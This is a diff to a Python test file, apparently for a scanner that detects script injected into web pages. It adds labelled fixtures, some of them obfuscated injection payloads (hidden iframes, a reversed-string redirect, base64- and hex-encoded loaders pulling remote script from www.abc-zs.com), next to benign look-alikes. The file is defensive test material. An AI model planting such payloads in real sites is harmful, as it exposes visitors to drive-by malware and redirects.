@@ -224,7 +224,32 @@ PACKED = (
             + "</script>",
             ["veil"],
         ),
-        ("<script>eval(unescape(window.k))</script>", ["veiled-script"]),
+        ("<script>eval(unescape(window.k))</script>", ["veiled?"]),
+        (
+            "<script>document.write(unescape('%3Ciframe height=1 width=1 src=%22//www.abc-zs.com/in%22%3E%3C/iframe%3E'))</script>",
+            ["hidden-frame"],
+        ),
+        ('<script>document.write(\'<iframe src="http://www.abc-zs.com/" width="640" height="300"></iframe>\')</script>', ["frame?"]),
+        (
+            "<script>var f=document.createElement('iframe');f.height=200;f.src='https://www.abc-zs.com/';box.appendChild(f)</script>",
+            ["frame?"],
+        ),
+        ("<script>eval(\"'sj.a/moc.sz-cba.www//:ptth'=ferh.noitacol\".split('').reverse().join(''))</script>", ["veil"]),
+        (
+            "<script>eval(atob('ZG9jdW1lbnQud3JpdGUo' + 'IjxzY3JpcHQgc3JjPS8vdy5hYmMtenMuY29tL2EuanM+PC9zY3JpcHQ+Iik='))</script>",
+            ["veil"],
+        ),
+        (
+            "<script>var _0xab12=['\\x73\\x63\\x72\\x69\\x70\\x74','\\x68\\x74\\x74\\x70\\x73\\x3a\\x2f\\x2f\\x77\\x2e\\x61\\x62\\x63\\x2d\\x7a\\x73\\x2e\\x63\\x6f\\x6d\\x2f\\x61'];"
+            "var _0xc=document['createElement'](_0xab12[0x0]);_0xc['src']=_0xab12[0x1];document.body.appendChild(_0xc)</script>",
+            ["veil"],
+        ),
+        (
+            "<script>var _0xab12=['\\x73\\x63\\x72\\x69\\x70\\x74','\\x73\\x72\\x63'];var _0xc=document['createElement'](_0xab12[0]);_0xc[_0xab12[1]]=k()</script>",
+            ["veiled?"],
+        ),
+        ("<script>[][(![]+[])[+[]]" + "+(![]+[])[!+[]+!+[]]" * 40 + "</script>", ["veiled?"]),
+        ("<script>var k='" + "QUJD" * 300 + "';eval(open_(k))</script>", ["veiled?"]),
     ],
 )
 def test_code_that_strangers_put_there(body: str, said: list[str]) -> None:
@@ -252,6 +277,12 @@ def test_code_that_strangers_put_there(body: str, said: list[str]) -> None:
         "<script>" + PACKED % ("$.0(1)", 10, 2, "show|fast") + "</script>",
         "<!-- <script src='http://www.abc-zs.com/a.js'></script><script>eval(unescape('%61'))</script> -->",
         "<p>document.referrer 与 eval( 的说明</p>",
+        "<script>var logo='iVBORw0K" + "QUJD" * 300 + "';show(atob(logo))</script>",
+        "<script>var rows='" + "QUJD" * 300 + "';fill(rows)</script>",
+        "<script>document.write('<iframe src=\"/inc/weather.html\" width=\"0\" height=\"0\"></iframe>')</script>",
+        "<script>document.write(unescape('%3Ciframe src=%22http://i.tianqi.com/index.php%22 width=%22250%22%3E'))</script>",
+        "<script>var s='abc'.split('').reverse().join('');document.write(s)</script>",
+        "<script>eval('var x=' + n)</script>",
     ],
 )
 def test_code_of_the_site_and_of_known_services(body: str) -> None:
@@ -290,7 +321,7 @@ def test_a_page_about_shops_is_left_open() -> None:
     [
         ('<a href="http://222.73.1.5:8080/a">系统</a><a href="http://222.73.1.5/b">系统</a>', ["number"]),
         ('<a href="http://xn--80ak6aa92e.com/">某网</a>', ["punycode"]),
-        ('<a href="http://www.abc-zs.top/">某网</a><a href="http://a.vip/">某网</a>', ["ending", "ending"]),
+        ('<a href="http://www.abc-zs.top/">某网</a><a href="http://a.vip/">某网</a>', ["ending?", "ending?"]),
         (
             '<a href="http://xn--fiq228c.xn--zfr164b/">政务</a><a href="http://中国政府网.政务/">政务</a><a href="http://xn--55qw42g.xn--fiqs8s/">公益</a>',
             [],
